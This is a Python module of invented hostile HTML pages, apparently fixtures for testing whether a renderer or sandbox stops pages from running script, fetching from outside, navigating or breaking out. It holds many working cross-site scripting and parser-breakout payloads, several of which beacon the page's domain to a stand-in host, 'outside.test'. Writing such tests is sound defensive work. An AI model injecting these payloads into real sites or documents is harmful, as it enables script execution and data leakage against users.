"""Pages that try everything: to run, to fetch, to navigate, to break out of what shows them. Invented."""

from __future__ import annotations

OUTSIDE = "outside.test"
"""Where hostile pages want to go; whoever tests with a browser makes this name lead to a server that counts."""

RUN = f"console.log(`ran`);new Image().src=`http://{OUTSIDE}/ran?`+document.domain"
"""A script that says on the console that it ran, and asks the outside; without quotes, so that it fits into any attribute."""

_TO = f"http://{OUTSIDE}"

HOSTILE = {
    "script": f"<script>{RUN}</script><script src='{_TO}/s.js'></script><SCRIPT/x>{RUN}</SCRIPT>",
    "events": (
        f'<img src=x onerror="{RUN}"><body onload="{RUN}"><svg onload="{RUN}"></svg><details open ontoggle="{RUN}">x'
        f'</details><input autofocus onfocus="{RUN}"><marquee onstart="{RUN}">x</marquee>'
    ),
    "images": (
        f"<img src='{_TO}/i.png'><img src='//{OUTSIDE}/j.png'><img srcset='{_TO}/k.png 2x'><picture><source srcset="
        f"'{_TO}/l.png'><img></picture><input type=image src='{_TO}/m.png'><body background='{_TO}/n.png'>"
        f"<video poster='{_TO}/o.png' src='{_TO}/v.mp4' autoplay></video><audio src='{_TO}/a.mp3' autoplay></audio>"
    ),
    "styles": (
        f"<style>@import url({_TO}/a.css); @import '{_TO}/b.css' screen; body {{ background: url('{_TO}/c.png') }}"
        f"@font-face {{ font-family: x; src: url({_TO}/f.woff) }} p {{ font-family: x; background: u\\72l({_TO}/e.png) }}"
        f"p {{ background: image-set('{_TO}/g.png' 1x) }}</style><p style=\"background:url({_TO}/d.png)\">x</p>"
        f"<link rel=stylesheet href='{_TO}/h.css'><link rel=preload as=image href='{_TO}/p.png'>"
        f"<link rel=dns-prefetch href='{_TO}'><link rel=prefetch href='{_TO}/q'><link rel=icon href='{_TO}/r.ico'>"
    ),
    "refresh": (
        f"<meta http-equiv=refresh content='0;url={_TO}/refresh'><META HTTP-EQUIV=\"Refresh\" content='0;{_TO}/again'>"
        f"<noscript><meta http-equiv=refresh content='0;url={_TO}/noscript'></noscript>"
    ),
    "base": f"<base href='{_TO}/' target=_top><img src='rel.png'><a id=go href='next.htm'>下一页</a>",
    "frames": (
        f"<iframe src='{_TO}/f'></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe><object data='{_TO}/o'>"
        f"</object><embed src='{_TO}/e'><applet code=x archive='{_TO}/a.jar'></applet><frameset><frame src='{_TO}/fs'>"
        "</frameset><portal src=http://outside.test></portal>"
    ),
    "links": (
        f"<a id=go href='{_TO}/link' target=_top ping='{_TO}/ping'>附件</a><a href='javascript:{RUN}'>x</a>"
        f"<map name=m><area href='{_TO}/area'></map><svg><a xlink:href='{_TO}/svg'><text y=20>x</text></a></svg>"
        f"<svg><a><animate attributeName=href values='{_TO}/anim'/><text y=20>y</text></a></svg>"
    ),
    "forms": (
        f"<form id=f action='{_TO}/form' method=post><input name=a value=1><button id=go formaction='{_TO}/button'>提交"
        "</button></form><button form=f>x</button>"
    ),
    "svg": (
        f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image href='{_TO}/i.svg'/><use xlink:href='{_TO}/u.svg#x'/>"
        f"<script>{RUN}</script><foreignObject><img src='{_TO}/fo.png'></foreignObject><set attributeName=onload to=x /></svg>"
    ),
    "breaking out": (
        f"<title></title><script>{RUN}</script><!--><script>{RUN}</script>--><style></style><img src=x onerror='{RUN}'>"
        f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript><textarea></textarea><script>{RUN}"
        f'</script><math><mi><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mi></math>'
        f"<template shadowrootmode=open><img src='{_TO}/shadow.png'></template><xmp></xmp><script>{RUN}</script>"
        f"<a {{x=1 href='{_TO}/odd' \"'=2 @click='x'>y</a><plaintext><script>{RUN}</script>"
    ),
}
"""Bodies by what they try."""
